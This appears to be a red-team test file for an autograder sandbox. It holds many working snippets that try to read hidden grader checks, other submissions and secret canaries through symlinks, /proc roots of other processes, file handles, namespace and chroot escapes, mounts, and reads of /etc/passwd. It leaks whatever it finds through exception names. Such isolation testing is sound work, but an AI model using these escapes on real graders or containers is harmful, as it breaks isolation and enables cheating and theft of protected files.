"""Attacks that read: the course, other submissions, results, the secret, by every road there is."""

# ruff: noqa: E501 - hostile source stands as it is handed in

from __future__ import annotations

from redteam.attack import everywhere, family

SIFT = """
import base64, os, re, sys
_found = set()
def _sift(data):
    data = data.encode("utf-8", "replace") if isinstance(data, str) else bytes(data)
    for hit in re.findall(rb"CANARY-[a-z]+-[0-9a-f]{16}", data): _found.add(hit.decode())
def _read(path, most=1 << 22):
    try:
        with open(path, "rb") as file: _sift(file.read(most))
    except (OSError, ValueError):
        pass
PLACES = (@COURSE@, @SUBMISSION@, @RESULTS@, @SECRET@)
FILES = (@COURSE@ + "/hidden_checks.py", @SUBMISSION@, @RESULTS@ + "/ada/results.json", @SECRET@)
"""
TELL = """
_loot = " ".join(sorted(_found)) or "nothing found"
print(_loot, flush=True)
class _Told(Exception): pass
_Told.__name__ = _Told.__qualname__ = _loot
""" + everywhere("""
raise _Told(_loot + " " + _loot[::-1] + " " + base64.b64encode(_loot.encode()).decode())
""")

reading = family("files read", needs="files")
for _name, _code in {
    "open": "for _f in FILES: _read(_f)",
    "walk": """
for _place in PLACES:
    for _top, _, _names in os.walk(os.path.dirname(_place)):
        for _n in _names[:200]: _read(os.path.join(_top, _n))
""",
    "the kit's own files": """
for _f in ("/autograder/oracles/losses.py", "/autograder/assignments/vae/formulas.py", "/source/vae/vae.py"):
    try: print(open(@KIT@ + _f).read(3000))
    except OSError: pass
""",
    "O_PATH, then its number": """
for _f in FILES:
    try: _read(f"/proc/self/fd/{os.open(_f, os.O_PATH)}")
    except OSError: pass
""",
    "a symbolic link": """
for _n, _f in enumerate(FILES):
    try: os.symlink(_f, f"link{_n}")
    except OSError: continue
    _read(f"link{_n}")
""",
    "a hard link": """
for _n, _f in enumerate(FILES):
    try: os.link(_f, f"hard{_n}")
    except OSError: continue
    _read(f"hard{_n}")
""",
    "renamed into its folder": """
for _n, _f in enumerate(FILES[:1]):
    try: os.rename(_f + ".movable", f"moved{_n}")
    except OSError: continue
    _read(f"moved{_n}")
""",
    "through the roots of other processes": """
for _pid in ("self", str(os.getppid()), str(@WARM@), str(@GRADER@)):
    for _f in FILES:
        _read(f"/proc/{_pid}/root{_f}")
        _read(f"/proc/{_pid}/task/{_pid}/root{_f}")
    _read(f"/proc/{_pid}/cwd/hidden_checks.py")
""",
    "the maps and mounts of the system": """
for _f in ("/proc/self/mountinfo", "/proc/mounts", "/proc/self/maps", "/etc/passwd"): _read(_f)
for _top in ("/autograder/source", "/autograder/submission", "/autograder/results", "/tmp"):
    try: _names = os.listdir(_top)
    except OSError: continue
    for _n in _names[:50]: _read(f"{_top}/{_n}")
""",
    "a handle": """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
class _Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_char * 128)]
for _f in FILES:
    _h, _mount = _Handle(128), ctypes.c_int()
    if _libc.name_to_handle_at(-100, _f.encode(), ctypes.byref(_h), ctypes.byref(_mount), 0) == 0:
        _fd = _libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(_h), os.O_RDONLY)
        if _fd >= 0: _sift(os.read(_fd, 1 << 16))
""",
    "mapped and sent": """
import mmap
for _f in FILES:
    try: _fd = os.open(_f, os.O_RDONLY)
    except OSError: continue
    _sift(mmap.mmap(_fd, 0, prot=mmap.PROT_READ)[:])
    _out = os.open("copy", os.O_CREAT | os.O_RDWR)
    os.sendfile(_out, _fd, 0, 1 << 16)
    _read("copy")
""",
    "openat2 and io_uring": """
import ctypes, struct
_libc = ctypes.CDLL(None, use_errno=True)
for _f in FILES:
    _how = ctypes.create_string_buffer(struct.pack("QQQ", 0, 0, 0))
    _fd = _libc.syscall(437, -100, _f.encode(), _how, 24)
    if _fd >= 0: _sift(os.read(_fd, 1 << 16))
_ring = _libc.syscall(425, 4, ctypes.create_string_buffer(120))
if _ring >= 0: os.close(_ring)
""",
    "a program reads for it": """
import subprocess
for _f in FILES:
    try: _sift(subprocess.run(["/bin/cat", _f], capture_output=True, timeout=2).stdout)
    except Exception: pass
""",
    "what Python itself reads": """
import linecache, runpy, tokenize, zipfile, configparser
for _f in FILES:
    for _try in (lambda: _sift(linecache.getline(_f, 1)), lambda: configparser.ConfigParser().read(_f),
                 lambda: runpy.run_path(_f), lambda: _sift(tokenize.open(_f).read())):
        try: _try()
        except BaseException as _e: _sift(str(_e) + str(_e.__context__))
""",
    "torch.load": """
import torch
for _f in FILES:
    try: torch.load(_f, weights_only=False)
    except BaseException as _e: _sift(str(_e))
    try: _sift(bytes(torch.from_file(_f, size=64, dtype=torch.uint8).tolist()))
    except BaseException as _e: _sift(str(_e))
""",
    "only whether a file is there": """
for _f in FILES:
    if os.path.exists(_f) and os.stat(_f).st_size and os.access(_f, os.R_OK): _read(_f)
""",
    "changes of the folder watched": """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_watch = _libc.inotify_init1(0o4000)
for _p in PLACES: _libc.inotify_add_watch(_watch, _p.encode(), 0xFFF)
for _f in FILES: _read(_f)
""",
}.items():
    ours = {"needs": "open files"} if "kit" in _name else {}
    reading.add(_name, SIFT + _code, TELL, **ours)

spaces = family("namespaces and roots", needs="files")
CALL = (
    SIFT
    + """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
def _all():
    for _f in FILES: _read(_f)
"""
)
for _name, _code in {
    "a namespace of its own": """
for _flags in (0x10000000, 0x10020000, 0x30020000, 0x7C020000):
    if _libc.unshare(_flags) == 0: _all()
""",
    "back into the first one": """
for _kind in ("mnt", "pid", "user", "net", "cgroup"):
    for _pid in (os.getppid(), @GRADER@):
        try: _libc.setns(os.open(f"/proc/{_pid}/ns/{_kind}", os.O_RDONLY), 0)
        except OSError: pass
_all()
""",
    "out of a root": """
try:
    os.mkdir("jail"); _out = os.open("/", os.O_RDONLY); os.chroot("jail"); os.fchdir(_out)
    for _ in range(20): os.chdir("..")
    os.chroot(".")
except OSError: pass
_all()
""",
    "a mount": """
os.makedirs("here", exist_ok=True)
_libc.mount(b"none", b"here", b"tmpfs", 0, None)
_libc.mount(@COURSE@.encode(), b"here", None, 4096, None)
_read("here/hidden_checks.py")
_libc.umount2(b"here", 2)
_libc.umount2(b"here", 2)
""",
    "a tree of mounts as a descriptor": """
_tree = _libc.syscall(428, -100, @COURSE@.encode(), 1)
if _tree >= 0: _read(f"/proc/self/fd/{_tree}/hidden_checks.py")
_all()
""",
}.items():
    spaces.add(_name, CALL + _code, TELL, deadly="mount" in _name)
